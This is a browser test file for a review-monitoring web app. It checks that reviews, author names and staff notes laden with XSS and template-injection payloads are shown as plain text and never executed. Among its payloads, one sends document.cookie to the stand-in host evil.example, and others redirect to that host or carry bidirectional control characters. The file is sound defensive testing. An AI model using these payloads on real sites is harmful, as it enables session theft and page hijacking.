"""What strangers write is shown, never obeyed."""

import pytest

from monitor.invitations import Action
from tests.browser.conftest import Open
from tests.browser.shop import Shop

ATTACKS = (
    "<script>alert(1); fetch('http://evil.example/?' + document.cookie)</script>",
    '<img src=x onerror="alert(2)"><svg/onload=alert(3)>',
    '"><a href="javascript:alert(4)">нажмите</a><iframe srcdoc="<script>parent.alert(5)</script>">',
    "{{ 7*7 }} {% include 'desk.css' %} ${7*7} #{7*7} <%= 7*7 %>",
    "' onmouseover='alert(6)' autofocus onfocus='alert(7)' x='",
    "</textarea><script>alert(8)</script><textarea>",
    "</title></style></script><style>body { display: none !important }</style>",
    "javascript:alert(9)",
    "<form action=//evil.example><input name=csrf></form><meta http-equiv=refresh content=0;url=//evil.example>",
)
TEXT = "Ужасно! Хамили и обсчитали. " + " ".join(ATTACKS)
RIGHT_TO_LEFT = "Отличное место\u202eйулап ьтировог оге\u2066 дна\u200b\u0007 конец"
TOUCH = """() => document.querySelectorAll("main *").forEach((one) => {
  for (const name of ["mouseover", "pointerenter", "focus"]) one.dispatchEvent(new Event(name, { bubbles: true }));
})"""
STRANGE = """() => {
  const parts = "iframe, svg, img, style, meta, form[action]:not([action^='/'])";
  const handlers = "[onclick], [onload], [onerror], [onfocus], [onmouseover]";
  return [...document.querySelectorAll(`body :is(${parts}, ${handlers}), main script`)].map((one) => one.outerHTML);
}"""
WORDS = """() => {
  const said = document.querySelector("#said").cloneNode(true);
  said.querySelectorAll(".visually-hidden").forEach((one) => one.remove());
  return said.textContent;
}"""

AUTHOR = '<b onclick="alert(10)">Ева</b> {{ 7*7 }}'


@pytest.fixture
def hostile(shop: Shop) -> Shop:
    """One in every list: a danger, an edited one, one with words of people at the desk that are no better."""
    shop.arrive(TEXT, 1, AUTHOR)
    shop.arrive(RIGHT_TO_LEFT, 1, "Рони\u202eйынмёТ")
    ticket = shop.of(AUTHOR).ticket
    card = next(card for card in shop.morning.world.cards() if (card.place, card.source) == ("bauman", "yandex_maps"))
    review = next(review for review in shop.morning.world.all_reviews(card) if review.author == AUTHOR)
    shop.morning.world.edit(card, review.external_id, text=TEXT + " " + ATTACKS[0], at=shop.clock.now())
    shop.work()
    anna = shop.app.actions("anna")
    anna.note(ticket, TEXT)
    anna.edit(ticket, TEXT)
    anna.edit(ticket, f"{TEXT} ещё раз")
    return shop


def test_a_hostile_review_is_shown_word_by_word_on_every_page_and_never_runs(hostile: Shop, open_window: Open) -> None:
    ticket = hostile.of(AUTHOR).ticket
    anna = open_window(hostile)
    page = anna.log_in("anna")
    paths = ("/queue", "/queue?q=%3Cscript%3Ealert(1)%3C/script%3E", "/today", "/outbox", "/audit", "/sources")
    assert hostile.app.invitations is not None
    link = hostile.app.invitations.address(Action.TAKE, hostile.of(AUTHOR), "support@example.ru", hostile.clock.now())
    for path in (
        *paths,
        link,
        f"/queue/{ticket}/draft",
        f"/t/{ticket}",
        f"/t/{ticket}?from=%22%3E%3Cscript%3Ealert(1)",
    ):
        page.goto(path)
        page.wait_for_load_state("networkidle")
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        page.evaluate(TOUCH)
        assert page.evaluate(STRANGE) == []

    anna.expect(page.get_by_role("heading", level=1)).to_contain_text(AUTHOR)
    said = page.evaluate(WORDS)
    assert [attack for attack in ATTACKS if attack not in said] == []
    anna.expect(page.get_by_label("Ответ на отзыв")).to_have_value(f"{TEXT} ещё раз")
    anna.expect(page.locator("#notes .words").first).to_contain_text(ATTACKS[0])


def test_marks_that_turn_the_direction_of_writing_turn_nothing(hostile: Shop, open_window: Open) -> None:
    anna = open_window(hostile)
    page = anna.log_in("anna")
    turned = next(view for view in hostile.everything() if view.text.startswith("Отличное место"))
    for path in ("/queue", "/today", f"/t/{turned.ticket}"):
        page.goto(path)
        content = page.content()
        assert not {mark for mark in "\u202e\u2066\u200b\u0007" if mark in content}, path
    anna.expect(page.locator("body")).not_to_have_css("direction", "rtl")


def test_a_hostile_review_does_no_harm_where_a_script_renews_the_page(hostile: Shop, open_window: Open) -> None:
    """What the script puts into a page came as HTML, too."""
    ticket = hostile.of(AUTHOR).ticket
    anna = open_window(hostile)
    page = anna.page
    page.clock.install()
    anna.log_in("anna")
    page.locator(f"#t{ticket} .peek").click()
    anna.expect(page.locator(f"#t{ticket} blockquote").first).to_contain_text(ATTACKS[0])
    hostile.arrive(TEXT, 1, f"{AUTHOR} снова")
    with page.expect_response(lambda answer: answer.url.endswith("/queue")):
        page.clock.fast_forward("00:40")
    page.get_by_role("button", name="показать").click()
    anna.expect(page.locator(f"#t{hostile.of(f'{AUTHOR} снова').ticket}")).to_be_visible()

    page.goto(f"/t/{ticket}")
    page.get_by_label("Ответ на отзыв").fill(f"{ATTACKS[1]} промокод РОМАШКА на скидку 20 %")
    anna.expect(page.locator("#lint .error").first).to_be_visible()
    page.locator("#other-words summary").first.click()
    anna.expect(page.locator("#swaps-box")).not_to_contain_text("Подбираем")
    page.locator("mark").first.click()
    anna.expect(page.locator("#toast")).not_to_be_empty()
